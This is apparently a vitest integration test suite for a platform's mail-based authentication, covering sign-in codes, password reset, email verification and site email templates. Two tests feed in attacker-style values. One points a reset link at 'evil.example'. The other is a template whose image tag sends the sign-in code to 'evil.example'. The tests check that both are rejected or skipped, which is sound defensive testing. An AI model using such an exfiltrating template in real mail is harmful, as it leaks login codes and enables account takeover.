import postgres from 'postgres';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { itOn } from '../helpers/db-only';
import { api, data, newSite, PLATFORM, unique, type Reply } from '../helpers/http';
import { startServer, type RunningServer } from '../helpers/server';
import { smtpSink, type ReceivedMail, type SmtpSink } from '../helpers/smtp-sink';

// Mailed sign-in codes, password reset, email verification and change, PATCH /auth/me, and the sites'
// own mail templates, against a real server that sends to a real SMTP sink. Codes expire after
// AUTH_CODE_TTL_SECONDS (5 s here, 600 by default) so expiry is seen within the test.
const CODE_TTL_SECONDS = 5;

let server: RunningServer;
let sink: SmtpSink;
let site: Awaited<ReturnType<typeof newSite>>;
let port: string;

beforeAll(async () => {
  sink = await smtpSink();
  server = await startServer(inject('dbKind'), {
    SMTP_URL: sink.url,
    AUTH_CODE_TTL_SECONDS: String(CODE_TTL_SECONDS),
    RATE_LIMIT_LOGIN: '1000',
    RATE_LIMIT_LOGIN_IP: '10000',
    RATE_LIMIT_LOGIN_CODE: '1000',
    RATE_LIMIT_PASSWORD_RESET: '1000',
    RATE_LIMIT_AUTH_MAIL_IP: '10000',
    RATE_LIMIT_EMAIL_VERIFY: '1000',
  });
  port = new URL(server.url).port;
  site = await newSite('Mail Shop', server.url);
}, 120_000);
afterAll(async () => {
  // What the server said of its outbox and mail, so a delivery that stalled leaves its reason here.
  const troubles = (server?.output() ?? '').split('\n').filter((l) => /"level":"(warn|error)"/.test(l) && /outbox|mail/i.test(l));
  if (troubles.length) console.log(`server outbox/mail warnings:\n${troubles.slice(-20).join('\n')}`);
  await server?.stop();
  await sink?.close();
});

const on = (host: string = site.host) => api(host, server.url);
const email = () => `${unique('m')}@example.test`;
const codeOf = (mail: ReceivedMail) => /\b(\d{6})\b/.exec(mail.text)?.[1] ?? '';
const tokenOf = (mail: ReceivedMail) => decodeURIComponent(/[?&]token=([^\s>&"]+)/.exec(mail.text)?.[1] ?? '');
const linkOf = (mail: ReceivedMail) => /(https?:\/\/\S+token=[^\s>"]+)/.exec(mail.text)?.[1] ?? '';
const wrongFor = (code: string) => (code === '000000' ? '111111' : '000000');

// Asks for a code on `host` and reads it from the mail.
async function mailedCode(address: string, host = site.host): Promise<{ code: string; mail: ReceivedMail }> {
  const since = sink.received.length;
  const r = await on(host).post('/api/v1/auth/login/code', { email: address });
  expect(r.status, r.text).toBe(200);
  const mail = await sink.waitFor(address, { since, match: (m) => !m.text.includes('token=') });
  return { code: codeOf(mail), mail };
}

const verify = (address: string, code: string, host = site.host) => on(host).post('/api/v1/auth/login/verify', { email: address, code });
const me = (token: string, host = site.host) => on(host).get('/api/v1/auth/me', { token });

async function signup(host = site.host, name = 'Pat') {
  const address = email();
  const since = sink.received.length;
  const r = await on(host).post('/api/v1/auth/signup', { email: address, password: 'first-password-1', name });
  expect(r.status, r.text).toBe(201);
  return { email: address, token: data(r).token as string, uid: data(r).item.uid as string, since };
}

// Nothing for `address` arrives within `ms`.
async function noMailTo(address: string, since: number, ms = 2500) {
  await new Promise((r) => setTimeout(r, ms));
  expect(sink.received.slice(since).filter((m) => m.to.includes(address))).toEqual([]);
}

describe('sign-in by mailed code', () => {
  it('an unknown address on a site gets a role-1 account, address proven, no password; the token works', async () => {
    const address = email();
    const { code, mail } = await mailedCode(address);
    expect(code).toMatch(/^\d{6}$/);
    // The platform does not vouch for the site yet: its built-in mail names the host, not the owner's name.
    expect(mail.subject).toBe(`${code} is your sign-in code for ${site.host}:${port}`);
    expect(mail.html).toContain(code);
    const r = await verify(address, code);
    expect(r.status, r.text).toBe(200);
    expect(data(r).item).toEqual({ uid: expect.any(String), email: address, name: '', role: 1 });
    expect(r.headers['set-cookie']?.join(';')).toContain('current_user=');
    const who = await me(data(r).token);
    expect(who.status, who.text).toBe(200);
    expect(data(who).item).toEqual({ uid: data(r).item.uid, email: address, name: '', role: 1, emailVerified: true, hasPassword: false });
    // The owner sees the new member.
    const members = await on().get('/api/v1/users', { token: site.ownerToken });
    expect(data(members).items.map((m: { email: string }) => m.email)).toContain(address);
  });

  it('works on the platform host: an account without a site role', async () => {
    const address = email();
    const { code } = await mailedCode(address, PLATFORM);
    const r = await verify(address, code, PLATFORM);
    expect(r.status, r.text).toBe(200);
    expect(data(r).item.role).toBe(0);
    const who = await me(data(r).token, PLATFORM);
    expect(data(who).item).toMatchObject({ email: address, role: 0, emailVerified: true });
  });

  it('an existing account signs in with a code and its address becomes proven', async () => {
    const user = await signup();
    expect(data(await me(user.token)).item.emailVerified).toBe(false);
    const { code } = await mailedCode(user.email);
    const r = await verify(user.email, code);
    expect(r.status, r.text).toBe(200);
    expect(data(r).item).toMatchObject({ uid: user.uid, role: 1 });
    expect(data(await me(data(r).token)).item).toMatchObject({ emailVerified: true, hasPassword: true });
  });

  it('a code works once, and only on the host it was asked on', async () => {
    const address = email();
    const { code } = await mailedCode(address);
    expect((await verify(address, code, PLATFORM)).status).toBe(401);
    expect((await verify(address, code)).status).toBe(200);
    const again = await verify(address, code);
    expect(again.status).toBe(401);
    expect(again.json).toEqual({ state: 'error', data: { text: expect.stringContaining('No valid code'), code: 'unauthorized' } });
  });

  itOn('postgres', 'the database keeps no code or link in clear: an HMAC in auth_secrets, the sent mail scrubbed from the outbox', async () => {
    const address = email();
    const { code } = await mailedCode(address);
    const reset = await signup();
    const since = sink.received.length;
    await on().post('/api/v1/auth/password/reset', { email: reset.email });
    const token = tokenOf(await sink.waitFor(reset.email, { since, match: (m) => m.subject.startsWith('Reset') }));
    const sql = postgres(server.databaseUrl!, { max: 1, onnotice: () => {} });
    try {
      // The worker scrubs right after the send: give it a moment.
      await new Promise((r) => setTimeout(r, 500));
      const secrets = await sql`select secret_hash, email from auth_secrets where email in (${address}, ${reset.email})`;
      expect(secrets.length).toBeGreaterThanOrEqual(2);
      const dump = JSON.stringify(secrets);
      expect(dump).not.toContain(code);
      expect(dump).not.toContain(token.split('.')[1]);
      const rows = await sql`select topic, payload::text as payload from outbox where topic like 'auth.%'`;
      expect(rows.length).toBeGreaterThan(2);
      const all = rows.map((r) => r.payload).join('\n');
      expect(all).not.toContain(code);
      expect(all).not.toContain(token.split('.')[1]);
      expect(all).not.toContain(address);
    } finally {
      await sql.end();
    }
  });

  it('a newer code replaces the older one', async () => {
    const address = email();
    const first = await mailedCode(address);
    const second = await mailedCode(address);
    if (first.code !== second.code) expect((await verify(address, first.code)).status).toBe(401);
    expect((await verify(address, second.code)).status).toBe(200);
  });

  it('locks after 5 wrong tries: the right code then fails', async () => {
    const address = email();
    const { code } = await mailedCode(address);
    const texts: string[] = [];
    for (let i = 0; i < 5; i++) {
      const r = await verify(address, wrongFor(code));
      expect(r.status).toBe(401);
      texts.push(data(r).text);
    }
    expect(texts).toEqual(['Wrong code: 4 tries left', 'Wrong code: 3 tries left', 'Wrong code: 2 tries left', 'Wrong code: 1 try left', expect.stringContaining('last try')]);
    expect((await verify(address, code)).status).toBe(401);
  });

  it('10 wrong guesses at once get no more than 5 tries', async () => {
    const address = email();
    const { code } = await mailedCode(address);
    const replies = await Promise.all(Array.from({ length: 10 }, () => verify(address, wrongFor(code))));
    expect(replies.map((r) => r.status)).toEqual(Array(10).fill(401));
    const counted = replies.filter((r) => String(data(r).text).startsWith('Wrong code'));
    expect(counted.length).toBe(5);
    expect((await verify(address, code)).status).toBe(401);
  });

  it('an expired code fails', async () => {
    const address = email();
    const { code } = await mailedCode(address);
    await new Promise((r) => setTimeout(r, CODE_TTL_SECONDS * 1000 + 1500));
    expect((await verify(address, code)).status).toBe(401);
  });

  it.each(['/api/v1/auth/login/code', '/api/v1/auth/password/reset'])('%s answers a known and an unknown address alike: same status, same body, same time (median within 20 ms)', async (path) => {
    const known = (await signup()).email;
    const ask = async (address: string) => {
      const started = performance.now();
      const r = await on().post(path, { email: address });
      return { r, ms: performance.now() - started };
    };
    for (let i = 0; i < 5; i++) {
      await ask(known);
      await ask(email());
    }
    const knownTimes: number[] = [];
    const unknownTimes: number[] = [];
    let bodies = new Set<string>();
    for (let i = 0; i < 15; i++) {
      const a = await ask(known);
      const b = await ask(email());
      expect([a.r.status, b.r.status]).toEqual([200, 200]);
      bodies = new Set([...bodies, a.r.text, b.r.text]);
      knownTimes.push(a.ms);
      unknownTimes.push(b.ms);
    }
    expect(bodies.size).toBe(1);
    const median = (xs: number[]) => [...xs].sort((x, y) => x - y)[Math.floor(xs.length / 2)]!;
    const figures = `${path}: known ${median(knownTimes).toFixed(1)} ms, unknown ${median(unknownTimes).toFixed(1)} ms (median of 15)`;
    console.log(figures);
    expect(Math.abs(median(knownTimes) - median(unknownTimes)), figures).toBeLessThan(20);
  });

  it('where sign-up is closed, an unknown address gets the same answer but no mail, and no account', async () => {
    const closed = await newSite('Closed', server.url);
    const put = await on(closed.host).put('/api/v1/sites', { settings: { allowSignup: false } }, { token: closed.ownerToken });
    expect(put.status, put.text).toBe(200);
    const address = email();
    const since = sink.received.length;
    const open = await on().post('/api/v1/auth/login/code', { email: email() });
    const r = await on(closed.host).post('/api/v1/auth/login/code', { email: address });
    expect(r.status).toBe(200);
    expect(r.text).toBe(open.text);
    await noMailTo(address, since);
    const v = await verify(address, '123456', closed.host);
    expect(v.status).toBe(401);
    // A member still signs in by code there.
    const { code } = await mailedCode(closed.ownerEmail, closed.host);
    const owner = await verify(closed.ownerEmail, code, closed.host);
    expect(owner.status, owner.text).toBe(200);
    expect(data(owner).item.role).toBe(5);
  });
});

describe('password reset', () => {
  it('the mailed link sets a new password: the old password and every older token stop working, the link works once', async () => {
    const user = await signup();
    const since = sink.received.length;
    const r = await on().post('/api/v1/auth/password/reset', { email: user.email });
    expect(r.status, r.text).toBe(200);
    const mail = await sink.waitFor(user.email, { since, match: (m) => m.subject.startsWith('Reset your password') });
    expect(linkOf(mail)).toMatch(new RegExp(`^http://localhost:${port}/admin/reset\\?token=`));
    const token = tokenOf(mail);
    const done = await on().post('/api/v1/auth/password/confirm', { token, password: 'second-password-2' });
    expect(done.status, done.text).toBe(200);
    expect(data(done).item).toMatchObject({ uid: user.uid, email: user.email, role: 1 });
    expect(done.headers['set-cookie']?.join(';')).toContain('current_user=');
    expect((await on().post('/api/v1/auth/login', { email: user.email, password: 'first-password-1' })).status).toBe(401);
    expect((await on().post('/api/v1/auth/login', { email: user.email, password: 'second-password-2' })).status).toBe(200);
    expect((await me(user.token)).status).toBe(401);
    const fresh = await me(data(done).token);
    expect(fresh.status).toBe(200);
    expect(data(fresh).item.emailVerified).toBe(true);
    const again = await on().post('/api/v1/auth/password/confirm', { token, password: 'third-password-3' });
    expect(again.status).toBe(401);
    expect((await on().post('/api/v1/auth/password/confirm', { token: `${token.split('.')[0]}.${'A'.repeat(43)}`, password: 'third-password-3' })).status).toBe(401);
  });

  it('answers an unknown address alike, without a mail', async () => {
    const known = (await signup()).email;
    const unknown = email();
    const since = sink.received.length;
    const a = await on().post('/api/v1/auth/password/reset', { email: known });
    const b = await on().post('/api/v1/auth/password/reset', { email: unknown });
    expect([a.status, b.status]).toEqual([200, 200]);
    expect(a.text).toBe(b.text);
    await sink.waitFor(known, { since, match: (m) => m.subject.startsWith('Reset') });
    await noMailTo(unknown, since, 500);
  });

  it("links to the site's own page (passwordResetUrl) only for an account of that site alone, at a proven address", async () => {
    const own = await newSite('Own pages', server.url);
    const put = await on(own.host).put('/api/v1/sites', { settings: { passwordResetUrl: '/account/reset?step=2' } }, { token: own.ownerToken });
    expect(put.status, put.text).toBe(200);
    const customer = await signup(own.host);
    const reset = async () => {
      const since = sink.received.length;
      await on(own.host).post('/api/v1/auth/password/reset', { email: customer.email });
      return sink.waitFor(customer.email, { since, match: (m) => m.subject.startsWith('Reset') });
    };
    // Nothing proved the address yet: the platform's page.
    let mail = await reset();
    expect(linkOf(mail)).toMatch(new RegExp(`^http://localhost:${port}/admin/reset\\?token=`));
    const verification = await sink.waitFor(customer.email, { since: customer.since, match: (m) => m.subject.startsWith('Confirm your email') });
    expect((await on(PLATFORM).post('/api/v1/auth/email/confirm', { token: tokenOf(verification) })).status).toBe(200);
    mail = await reset();
    expect(linkOf(mail)).toMatch(new RegExp(`^http://${own.host}:${port}/account/reset\\?step=2&token=`));
    // The platform admin belongs to every site: the site's page never gets their link.
    const since = sink.received.length;
    await on(own.host).post('/api/v1/auth/password/reset', { email: 'admin@example.test' });
    mail = await sink.waitFor('admin@example.test', { since, match: (m) => m.subject.startsWith('Reset') });
    expect(linkOf(mail)).toMatch(new RegExp(`^http://localhost:${port}/admin/reset\\?token=`));
    // Another host is never a landing page.
    const bad = await on(own.host).put('/api/v1/sites', { settings: { passwordResetUrl: 'https://evil.example/reset' } }, { token: own.ownerToken });
    expect(bad.status).toBe(422);
  });
});

describe('email verification and change', () => {
  it('sign-up mails a verification link; following it proves the address; asking again sends nothing', async () => {
    const user = await signup();
    const mail = await sink.waitFor(user.email, { since: user.since, match: (m) => m.subject.startsWith('Confirm your email') });
    expect(linkOf(mail)).toMatch(new RegExp(`^http://localhost:${port}/admin/verify-email\\?token=`));
    const r = await on(PLATFORM).post('/api/v1/auth/email/confirm', { token: tokenOf(mail) });
    expect(r.status, r.text).toBe(200);
    expect(data(r).email).toBe(user.email);
    expect(data(await me(user.token)).item.emailVerified).toBe(true);
    expect((await on(PLATFORM).post('/api/v1/auth/email/confirm', { token: tokenOf(mail) })).status).toBe(401);
    const again = await on().post('/api/v1/auth/email/verify', undefined, { token: user.token });
    expect(again.status, again.text).toBe(200);
    expect(data(again).sent).toBe(false);
  });

  it('POST /auth/email/verify mails a new link for the current address (the older one no longer works)', async () => {
    const user = await signup();
    const first = await sink.waitFor(user.email, { since: user.since });
    const since = sink.received.length;
    const r = await on().post('/api/v1/auth/email/verify', undefined, { token: user.token });
    expect(r.status, r.text).toBe(200);
    expect(data(r).sent).toBe(true);
    const second = await sink.waitFor(user.email, { since });
    expect((await on().post('/api/v1/auth/email/confirm', { token: tokenOf(first) })).status).toBe(401);
    expect((await on().post('/api/v1/auth/email/confirm', { token: tokenOf(second) })).status).toBe(200);
    expect((await on().post('/api/v1/auth/email/verify')).status).toBe(401);
  });

  it('an address change waits for the link mailed to the new address, then tells the old one', async () => {
    const user = await signup();
    const next = email();
    const noPassword = await on().patch('/api/v1/auth/me', { email: next }, { token: user.token });
    expect(noPassword.status).toBe(422);
    const wrong = await on().patch('/api/v1/auth/me', { email: next, currentPassword: 'not-my-password' }, { token: user.token });
    expect(wrong.status).toBe(403);
    const taken = await on().patch('/api/v1/auth/me', { email: site.ownerEmail, currentPassword: 'first-password-1' }, { token: user.token });
    expect(taken.status).toBe(422);
    const since = sink.received.length;
    const r = await on().patch('/api/v1/auth/me', { email: next, name: 'Pat Two', currentPassword: 'first-password-1' }, { token: user.token });
    expect(r.status, r.text).toBe(200);
    expect(data(r).pendingEmail).toBe(next);
    expect(data(r).item).toMatchObject({ email: user.email, name: 'Pat Two' });
    expect(data(r).token).toBeUndefined();
    const link = await sink.waitFor(next, { since });
    expect(link.subject).toBe(`Confirm your new email address for ${site.host}:${port}`);
    const ok = await on(PLATFORM).post('/api/v1/auth/email/confirm', { token: tokenOf(link) });
    expect(ok.status, ok.text).toBe(200);
    const notice = await sink.waitFor(user.email, { since, match: (m) => m.subject.includes('was changed') });
    expect(notice.text).toContain(next);
    expect(tokenOf(notice)).toBe('');
    expect((await on().post('/api/v1/auth/login', { email: next, password: 'first-password-1' })).status).toBe(200);
    expect((await on().post('/api/v1/auth/login', { email: user.email, password: 'first-password-1' })).status).toBe(401);
    expect(data(await me(user.token)).item).toMatchObject({ email: next, emailVerified: true });
  });
});

describe('PATCH /auth/me', () => {
  it('a password change ends older tokens and answers a working new one', async () => {
    const user = await signup();
    const r = await on().patch('/api/v1/auth/me', { password: 'second-password-2', currentPassword: 'first-password-1' }, { token: user.token });
    expect(r.status, r.text).toBe(200);
    expect(r.headers['set-cookie']?.join(';')).toContain('current_user=');
    expect((await me(user.token)).status).toBe(401);
    const fresh = await me(data(r).token);
    expect(fresh.status).toBe(200);
    expect(data(r).item).toMatchObject({ uid: user.uid, hasPassword: true });
    expect((await on().post('/api/v1/auth/login', { email: user.email, password: 'second-password-2' })).status).toBe(200);
  });

  it('an account made by a code sets its first password without a current one', async () => {
    const address = email();
    const { code } = await mailedCode(address);
    const token = data(await verify(address, code)).token;
    const r = await on().patch('/api/v1/auth/me', { password: 'my-first-password' }, { token });
    expect(r.status, r.text).toBe(200);
    expect(data(r).item.hasPassword).toBe(true);
    expect((await on().post('/api/v1/auth/login', { email: address, password: 'my-first-password' })).status).toBe(200);
  });
});

describe("a site's email templates", () => {
  it('an email template changes the subject and body of its mails once the platform trusts the site; it is never served', async () => {
    const shop = await newSite('Tpl Shop', server.url);
    // Until then it reaches proven addresses only (test/security/mail-trust.test.ts).
    expect((await on(PLATFORM).put(`/api/v1/sites/${shop.uid}/mail-trust`, { trusted: true }, { token: shop.admin })).status).toBe(200);
    const body = 'Subject: Your {{ site.name }} key\n<p>Key for {{ user.email }}: <b>{{ code }}</b> valid {{ expires_minutes }} min</p>';
    const created = await on(shop.host).post('/api/v1/templates', { title: 'email/login_code', type: 'email', body }, { token: shop.ownerToken });
    expect(created.status, created.text).toBe(201);
    const address = email();
    const { code, mail } = await mailedCode(address, shop.host);
    expect(mail.subject).toBe('Your Tpl Shop key');
    expect(mail.html).toContain(`Key for ${address}: <b>${code}</b> valid 1 min`);
    expect(mail.text).toContain(`Key for ${address}: ${code}`);
    expect((await verify(address, code, shop.host)).status).toBe(200);
    // The platform admin's mail from this site is the built-in one.
    const admin = await mailedCode('admin@example.test', shop.host);
    expect(admin.mail.subject).toBe(`${admin.code} is your sign-in code for Tpl Shop`);
    // Never a page, never a partial; an email template holds no path.
    for (const path of ['/email/login_code', '/email/login_code/', '/']) {
      const page = await on(shop.host).get(path);
      expect(page.text).not.toContain('Key for');
    }
    const page = await on(shop.host).post('/api/v1/templates', { title: 'Uses', permalink: '/uses', body: '[{% render "email/login_code" %}]' }, { token: shop.ownerToken });
    expect(page.status, page.text).toBe(201);
    expect((await on(shop.host).get('/uses')).text).not.toContain('Key for');
    const withPath = await on(shop.host).post('/api/v1/templates', { title: 'email/password_reset', type: 'email', permalink: '/reset-mail', body }, { token: shop.ownerToken });
    expect(withPath.status).toBe(422);
    const moved = await on(shop.host).put(`/api/v1/templates/${data(created).item.uid}`, { permalink: '/key' }, { token: shop.ownerToken });
    expect(moved.status).toBe(422);
  });

  it('a template that would leak the code elsewhere is skipped for the built-in mail', async () => {
    const shop = await newSite('Leaky Shop', server.url);
    expect((await on(PLATFORM).put(`/api/v1/sites/${shop.uid}/mail-trust`, { trusted: true }, { token: shop.admin })).status).toBe(200);
    const body = 'Subject: Leaky\n<p> {{ code }}</p><img src="https://evil.example/p.png?c={{ code }}">';
    const created = await on(shop.host).post('/api/v1/templates', { title: 'email/login_code', type: 'email', body }, { token: shop.ownerToken });
    expect(created.status, created.text).toBe(201);
    const { code, mail } = await mailedCode(email(), shop.host);
    expect(mail.subject).toBe(`${code} is your sign-in code for Leaky Shop`);
    expect(mail.html).not.toContain('evil.example');
  });
});

describe('bad bodies', () => {
  const cases: [string, string, unknown][] = [
    ['POST', '/api/v1/auth/login/code', {}],
    ['POST', '/api/v1/auth/login/code', { email: 'not-an-address' }],
    ['POST', '/api/v1/auth/login/code', { email: 'a@example.test', extra: 1 }],
    ['POST', '/api/v1/auth/login/verify', { email: 'a@example.test', code: '12' }],
    ['POST', '/api/v1/auth/login/verify', { email: 'a@example.test', code: 123456 }],
    ['POST', '/api/v1/auth/password/reset', { email: 5 }],
    ['POST', '/api/v1/auth/password/confirm', { token: 'x.y', password: 'short' }],
    ['POST', '/api/v1/auth/password/confirm', { password: 'long-enough-1' }],
    ['POST', '/api/v1/auth/email/confirm', { token: '' }],
  ];
  it.each(cases)('%s %s %j answers 422 in the envelope', async (method, path, body) => {
    const r: Reply = await (method === 'POST' ? on().post(path, body) : on().patch(path, body));
    expect(r.status, r.text).toBe(422);
    expect(r.json).toEqual({ state: 'error', data: { text: expect.any(String), code: 'invalid', issues: expect.arrayContaining([{ path: expect.any(String), message: expect.any(String) }]) } });
  });

  it('PATCH /auth/me with nothing to change, or an unknown field, answers 422', async () => {
    const user = await signup();
    for (const body of [{}, { role: 7 }, { name: '' }]) {
      const r = await on().patch('/api/v1/auth/me', body, { token: user.token });
      expect(r.status, r.text).toBe(422);
      expect(r.json?.state).toBe('error');
    }
  });
});
